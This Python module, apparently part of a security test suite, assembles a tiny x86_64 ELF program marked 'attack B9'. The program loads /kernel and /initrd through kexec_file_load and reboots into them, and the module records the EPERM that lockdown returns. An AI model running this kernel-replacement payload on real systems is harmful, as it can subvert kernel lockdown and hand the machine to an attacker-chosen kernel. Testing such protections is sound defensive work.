# SPDX-License-Identifier: Apache-2.0
"""A Linux program of some 300 bytes that starts another kernel from the running one (attack B9), for x86_64.

It opens `/kernel` and `/initrd`, hands both to kexec_file_load(2) with a command line, and for a kernel that is to run
at once calls reboot(2) with LINUX_REBOOT_CMD_KEXEC. Its exit code is 0, or the error number that Linux gave.
"""

from __future__ import annotations

import struct

AT_ONCE, ON_CRASH = 0, 2
"""Flags of kexec_file_load(2): run the new kernel now, or KEXEC_FILE_ON_CRASH, keep it for a panic."""
EPERM = 1
"""What Linux answers when lockdown or `kernel.kexec_load_disabled` forbids it."""

_ELF_HEADER, _PROGRAM_HEADER = struct.Struct("<16sHHIQQQIHHHHHH"), struct.Struct("<IIQQQQQQ")
_IDENT = b"\x7fELF\x02\x01\x01" + bytes(9)  # 64 bits, little-endian, version 1 (ELF-64 object file format)
_EXECUTABLE, _X86_64, _LOAD, _READ_EXECUTE = 2, 62, 1, 5
_BASE = 0x40_0000


def kexec_program(command_line: str, *, flags: int = AT_ONCE) -> bytes:
    """Return the program that starts a kernel with this command line."""
    text = command_line.encode("ascii") + b"\0"
    code = _code(len(text), flags) + text
    start = _ELF_HEADER.size + _PROGRAM_HEADER.size
    size = start + len(code)
    header = _ELF_HEADER.pack(
        _IDENT, _EXECUTABLE, _X86_64, 1, _BASE + start, _ELF_HEADER.size, 0, 0, _ELF_HEADER.size,
        _PROGRAM_HEADER.size, 1, 0, 0, 0,
    )  # fmt: skip
    segment = _PROGRAM_HEADER.pack(_LOAD, _READ_EXECUTE, 0, _BASE, _BASE, size, size, 0x1000)
    return header + segment + code


def _code(command_line_bytes: int, flags: int) -> bytes:
    return b"".join(
        (
            b"\x48\x8d\x3d\x68\x00\x00\x00",  # lea rdi, [kernel]
            b"\x31\xf6",  # xor esi, esi                  O_RDONLY
            b"\xb8\x02\x00\x00\x00\x0f\x05",  # mov eax, 2; syscall      open
            b"\x41\x89\xc4",  # mov r12d, eax
            b"\x48\x8d\x3d\x5d\x00\x00\x00",  # lea rdi, [initrd]
            b"\x31\xf6",  # xor esi, esi
            b"\xb8\x02\x00\x00\x00\x0f\x05",  # mov eax, 2; syscall      open
            b"\x89\xc6\x44\x89\xe7",  # mov esi, eax; mov edi, r12d
            b"\xba" + struct.pack("<I", command_line_bytes),  # mov edx, size
            b"\x4c\x8d\x15" + struct.pack("<i", _BEHIND_STRINGS - _BEHIND_LEA),  # lea r10, [command line]
            b"\x41\xb8" + struct.pack("<I", flags),  # mov r8d, flags
            b"\xb8\x40\x01\x00\x00\x0f\x05",  # mov eax, 320; syscall    kexec_file_load
            b"\x89\xc7\xf7\xdf",  # mov edi, eax; neg edi
            b"\x85\xc0\x75\x1f",  # test eax, eax; jnz done
            b"\x45\x85\xc0\x75\x1a",  # test r8d, r8d; jnz done
            b"\xbf\xad\xde\xe1\xfe",  # mov edi, 0xfee1dead      LINUX_REBOOT_MAGIC1
            b"\xbe\x69\x19\x12\x28",  # mov esi, 0x28121969      LINUX_REBOOT_MAGIC2
            b"\xba\x43\x45\x58\x45",  # mov edx, 0x45584543      LINUX_REBOOT_CMD_KEXEC
            b"\xb8\xa9\x00\x00\x00\x0f\x05",  # mov eax, 169; syscall    reboot
            b"\x89\xc7\xf7\xdf",  # mov edi, eax; neg edi
            b"\xb8\x3c\x00\x00\x00\x0f\x05",  # done: mov eax, 60; syscall       exit
            b"/kernel\0/initrd\0",
        )
    )


_BEHIND_LEA, _BEHIND_STRINGS = 0x34, 0x7F
"""Offsets in the code: behind the instruction that takes the command line's address, and of the command line."""
